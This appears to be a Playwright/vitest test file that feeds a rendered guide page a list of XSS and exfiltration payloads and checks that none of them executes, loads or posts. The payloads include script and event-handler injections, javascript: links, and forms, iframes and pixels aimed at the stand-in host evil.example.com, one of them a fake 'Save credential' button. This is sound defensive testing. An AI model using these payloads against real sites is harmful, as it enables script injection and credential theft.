import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type FormServer, startFormServer } from '../harness/browser/form-server.ts'
import { launchChromium } from './chromium.ts'
import { watchedPage } from './watched-page.ts'

const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example.com"></iframe>',
  '<form action="https://evil.example.com"><input name="pat"><button>Save</button></form>',
  '<style>body{background:url(https://evil.example.com/x)}</style>',
  '<link rel=stylesheet href=https://evil.example.com/x>',
  '<base href="https://evil.example.com/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example.com">',
  '<object data="https://evil.example.com"></object><embed src="https://evil.example.com">',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<details open ontoggle=alert(1)>',
  '</div></details><form id=x><button form=x formaction=https://evil.example.com>Save credential</button>',
  '[js](javascript:alert(1)) [js](JAVASCRIPT:alert%281%29) [data](data:text/html,<script>alert(1)</script>)',
  '![pixel](https://evil.example.com/pixel.png)',
  '[x](https://example.com/"onclick="alert(1))',
  '`<script>alert(1)</script>`',
].join('\n\n')

let browser: Browser
let server: FormServer

beforeAll(async () => {
  browser = await launchChromium()
  server = await startFormServer({ provider: { doc: HOSTILE } })
})
afterAll(async () => {
  await browser.close()
  await server.close()
})

test('nothing in a hostile guide runs, loads, posts or leads away, even before the policy has to stop it', async () => {
  const watched = await watchedPage(browser, server)
  const link = await server.ask('alice')
  await watched.open(link.entry)
  await watched.signIn('Alice')
  await watched.page.waitForTimeout(500)
  expect(watched.troubles).toEqual([])
  expect([...watched.origins].sort()).toEqual([server.issuer, server.baseUrl.origin].sort())
  const live = await watched.page.evaluate(`(() => {
    const guide = document.querySelector('.prose')
    const dangerous = 'script,iframe,form,style,link,base,meta,object,embed,svg,math,img,input,button,details'
    const handles = (name) => name.startsWith('on') || name === 'style' || name.startsWith('form')
    return {
      elements: guide.querySelectorAll(dangerous).length,
      handlers: [...guide.querySelectorAll('*')].filter((element) => element.getAttributeNames().some(handles)).length,
      protocols: [...guide.querySelectorAll('a')].map(({ protocol }) => protocol),
      forms: document.forms.length,
    }
  })()`)
  expect(live).toEqual({ elements: 0, handlers: 0, protocols: ['https:'], forms: 3 })
  await watched.close()
})
